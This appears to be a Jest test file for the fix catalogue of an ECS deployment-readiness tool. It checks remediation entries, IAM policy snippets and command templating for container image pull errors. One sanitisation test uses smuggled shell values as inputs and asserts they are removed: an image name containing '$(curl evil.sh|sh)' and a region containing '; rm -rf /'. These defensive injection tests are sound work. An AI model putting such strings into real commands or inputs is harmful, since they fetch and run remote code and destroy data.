/*
 * Copyright 2026 The ECS Deploy Readiness Authors
 *
 * Licensed under the Apache License, Version 2.0 (the "License");
 * you may not use this file except in compliance with the License.
 * You may obtain a copy of the License at
 *
 *     http://www.apache.org/licenses/LICENSE-2.0
 *
 * Unless required by applicable law or agreed to in writing, software
 * distributed under the License is distributed on an "AS IS" BASIS,
 * WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
 * See the License for the specific language governing permissions and
 * limitations under the License.
 */

import { CHECK_IDS, PULL_ERROR_CATEGORIES } from '../types';
import {
  CATEGORY_CONFIRMING_CHECKS,
  FIX_CATALOGUE,
  FIX_CATALOGUE_ENTRIES,
  catalogueEntryFor,
  fixFor,
} from '.';
import type { FixKey } from '../types';

const ALL_KEYS: FixKey[] = [...CHECK_IDS, ...PULL_ERROR_CATEGORIES];
const allText = (key: FixKey, vars = {}) => {
  const entry = catalogueEntryFor(key, vars);
  return [
    entry.title,
    entry.explanation,
    ...entry.steps.flatMap(s => [s.text, s.command ?? '']),
  ].join('\n');
};

describe('fix catalogue', () => {
  it.each(ALL_KEYS)('has a complete entry for %s', key => {
    const entry = FIX_CATALOGUE[key];
    expect(entry).toBeDefined();
    expect(entry.keys).toContain(key);
    expect(entry.title.length).toBeGreaterThan(10);
    expect(entry.explanation.length).toBeGreaterThan(60);
    expect(entry.steps.length).toBeGreaterThan(0);
    expect(entry.docs.length).toBeGreaterThan(0);
    for (const doc of entry.docs) {
      expect(doc.url).toMatch(
        /^https:\/\/docs\.aws\.amazon\.com\/[\w/.-]+\.html$/,
      );
    }
  });

  it('keys every entry exactly once and nothing else', () => {
    const keys = FIX_CATALOGUE_ENTRIES.flatMap(e => e.keys);
    expect(new Set(keys).size).toBe(keys.length);
    expect([...keys].sort()).toEqual([...new Set(ALL_KEYS)].sort());
  });

  it.each([
    ['platform-missing', 'platform-mismatch'],
    ['mixed-layer-compression', 'mixed-compression'],
    ['layer-diffid-mismatch', 'layer-count-mismatch'],
    ['unsupported-layer-media-type', 'attestation-media-type'],
    ['not-an-image', 'attestation-media-type'],
    ['empty-image', 'attestation-media-type'],
    ['schema1-manifest', 'unsupported-manifest-schema'],
    ['tag-not-found', 'manifest-unknown-tag'],
    ['deployed-digest-missing', 'manifest-unknown-digest-deleted'],
    ['dockerhub-unauthenticated', 'rate-limited'],
  ] as const)('shares one entry between %s and %s', (check, category) => {
    expect(FIX_CATALOGUE[check]).toBe(FIX_CATALOGUE[category]);
  });

  it('gives the concrete commands users need', () => {
    expect(allText('platform-mismatch')).toContain(
      '--platform <platform> --provenance=false',
    );
    expect(allText('platform-mismatch')).toContain('--push');
    expect(allText('mixed-compression')).toContain(
      'outputs: type=image,oci-mediatypes=true,compression=zstd',
    );
    expect(allText('mixed-compression')).toContain('force-compression=true');
    expect(allText('mixed-compression')).toContain('regctl image mod');
    expect(allText('mixed-compression')).toContain('--layer-compress');
    expect(allText('platform-missing')).toContain('--accepted-media-types');
    expect(allText('mutable-tag-reference')).toContain(
      'IMMUTABLE_WITH_EXCLUSION',
    );
    expect(allText('platform-missing')).toContain('--force-new-deployment');
    expect(allText('rate-limited')).toContain('create-pull-through-cache-rule');
    expect(allText('disk-space')).toContain('ephemeralStorage');
    const network = allText('ecr-auth-network', { region: 'eu-west-1' });
    for (const endpoint of ['ecr.api', 'ecr.dkr', 'logs']) {
      expect(network).toContain(endpoint);
    }
    expect(network).toContain('com.amazonaws.eu-west-1.s3');
  });

  it('gives an execution role policy with the ECR pull actions', () => {
    const step = fixFor('access-denied-iam').steps.find(
      s => s.language === 'json' && s.command?.includes('ecr:BatchGetImage'),
    );
    const policy = JSON.parse(step!.command!);
    const actions = policy.Statement.flatMap((s: any) => s.Action);
    expect(actions).toEqual(
      expect.arrayContaining([
        'ecr:GetAuthorizationToken',
        'ecr:BatchGetImage',
        'ecr:GetDownloadUrlForLayer',
        'ecr:BatchCheckLayerAvailability',
      ]),
    );
    const secrets = fixFor('kms-or-secrets').steps.find(s =>
      s.command?.includes('secretsmanager:GetSecretValue'),
    );
    expect(JSON.parse(secrets!.command!).Statement[1].Action).toEqual([
      'kms:Decrypt',
    ]);
  });

  it('keeps every JSON snippet parseable after substitution', () => {
    const vars = {
      image: `123456789012.dkr.ecr.eu-west-1.amazonaws.com/app:1.2@sha256:${'a'.repeat(
        64,
      )}`,
      platform: 'linux/arm64',
    };
    const snippets = ALL_KEYS.flatMap(key =>
      fixFor(key, vars).steps.filter(
        s => s.language === 'json' && s.command?.startsWith('{'),
      ),
    );
    expect(snippets.length).toBeGreaterThan(8);
    for (const step of snippets) {
      expect(() => JSON.parse(step.command!)).not.toThrow();
    }
  });
});

describe('fixFor', () => {
  it('shows the exact pinned reference for a mutable tag', () => {
    const pinned = `registry.example.com/team/app:1.4@sha256:${'b'.repeat(64)}`;
    const fix = fixFor('mutable-tag-reference', { pinnedReference: pinned });
    expect(fix.steps[0].command).toBe(`"image": "${pinned}"`);
  });

  it('derives the pinned reference from the image and digest', () => {
    const digest = `sha256:${'c'.repeat(64)}`;
    const fix = fixFor('mutable-tag-reference', {
      image: 'nginx:1.27',
      digest,
    });
    expect(fix.steps[0].command).toBe(`"image": "nginx:1.27@${digest}"`);
  });

  it('keeps clear placeholders when nothing is known', () => {
    const fix = fixFor('mutable-tag-reference');
    expect(fix.steps[0].command).toBe('"image": "<pinned-reference>"');
    expect(fix.summary).not.toMatch(/\[\[|\]\]/);
    expect(
      fixFor('platform-mismatch')
        .steps.map(s => s.command)
        .join(),
    ).toContain('--platform <platform>');
  });

  it('fills account, region, repository and tag from an ECR image', () => {
    const image =
      '123456789012.dkr.ecr.eu-west-1.amazonaws.com/shop/web:2024-06';
    const text = allText('tag-not-found', { image, platform: 'linux/amd64' });
    expect(text).toContain('--region eu-west-1 --repository-name shop/web');
    expect(text).toContain('--platform linux/amd64');
    expect(text).toContain(`-t ${image} --push`);
    expect(catalogueEntryFor('tag-not-found', { image }).title).toBe(
      'The image tag does not exist: shop/web:2024-06',
    );
    const iam = allText('access-denied-iam', { image });
    expect(iam).toContain(
      'arn:aws:ecr:eu-west-1:123456789012:repository/shop/web',
    );
  });

  it('drops optional prose when a value is missing and fills it when given', () => {
    expect(catalogueEntryFor('platform-mismatch').title).toBe(
      'The image has no variant for the task platform',
    );
    expect(
      catalogueEntryFor('platform-mismatch', { platform: 'linux/amd64' }).title,
    ).toBe('The image has no variant for the task platform (linux/amd64)');
  });

  it('never puts unsafe values into commands', () => {
    const fix = fixFor('tag-not-found', {
      image: 'app:$(curl evil.sh|sh)',
      region: 'us-east-1; rm -rf /',
      repository: '<ACCOUNT>/app',
    });
    const text = fix.steps.map(s => s.command ?? '').join('\n');
    expect(text).not.toContain('evil');
    expect(text).not.toContain('rm -rf');
    expect(text).toContain('--region <region> --repository-name <repository>');
  });

  it('does not share state between calls', () => {
    const first = fixFor('platform-mismatch', { platform: 'linux/arm64' });
    first.steps[0].text = 'changed';
    expect(fixFor('platform-mismatch').steps[0].text).not.toBe('changed');
  });

  it('falls back to the generic entry for an unknown key', () => {
    expect(fixFor('no-such-key' as FixKey).summary).toBe(
      fixFor('other').summary,
    );
  });
});

describe('CATEGORY_CONFIRMING_CHECKS', () => {
  it('maps every category, using the shared catalogue keys', () => {
    expect(Object.keys(CATEGORY_CONFIRMING_CHECKS).sort()).toEqual(
      [...PULL_ERROR_CATEGORIES].sort(),
    );
    expect(CATEGORY_CONFIRMING_CHECKS['platform-mismatch']).toContain(
      'platform-missing',
    );
    expect(CATEGORY_CONFIRMING_CHECKS['attestation-media-type']).toEqual(
      expect.arrayContaining([
        'unsupported-layer-media-type',
        'not-an-image',
        'empty-image',
      ]),
    );
    expect(
      CATEGORY_CONFIRMING_CHECKS['manifest-unknown-digest-deleted'],
    ).toEqual(
      expect.arrayContaining([
        'deployed-digest-missing',
        'lifecycle-expires-in-use-image',
      ]),
    );
    expect(CATEGORY_CONFIRMING_CHECKS['access-denied-iam']).toEqual([]);
    expect(CATEGORY_CONFIRMING_CHECKS.other).toEqual([]);
  });
});
